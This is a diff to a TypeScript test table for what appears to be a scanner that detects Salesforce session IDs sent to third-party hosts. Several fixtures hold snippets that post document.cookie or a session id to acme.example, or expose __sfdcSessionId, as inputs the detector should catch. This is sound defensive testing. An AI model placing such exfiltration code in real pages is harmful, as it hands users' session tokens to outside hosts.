@@ -161,15 +161,11 @@ const rows: readonly Row[] = [
     ['StaticResource:tool:1 → third-party'],
   ],
   [
-    'trap: other cookies are none',
+    'trap: other cookies are not session ids',
     script(`fetch('https://acme.example', { body: document.cookie.split('theme=')[1] }); // sid`),
     [],
   ],
-  [
-    'a function that nobody sees the end of',
-    script(`acmeTracker.identify(${sid});`),
-    ['StaticResource:tool:1 → unknown'],
-  ],
+  ['a function whose end is not known', script(`acmeTracker.identify(${sid});`), ['StaticResource:tool:1 → unknown']],
   [
     'a global variable is read by other scripts',
     script(`window.acmeKey = ${sid};`),
@@ -244,7 +240,7 @@ const rows: readonly Row[] = [
     ['StaticResource:remote:1 → unknown'],
   ],
   [
-    'a bundle is not followed, and says so where it has the name of a session id',
+    'a bundle is not followed, and reports it where it has the name of a session id',
     {
       [`${folder}/staticresources/bundle.js`]: `${'a();'.repeat(2000)}x(window.__sfdcSessionId);`,
       [`${folder}/staticresources/cookies.js`]: `${'a();'.repeat(2000)}x(document.cookie,"sid");`,
@@ -301,7 +297,7 @@ const rows: readonly Row[] = [
     [],
   ],
   [
-    'a page whose script reads it, beside merge fields',
+    'a page whose script reads it, with merge fields',
     page(
       `<apex:page>\n<script>\nvar list = {!json};\nfetch('https://acme.example', { body: ${sid} });\n</script></apex:page>`
     ),
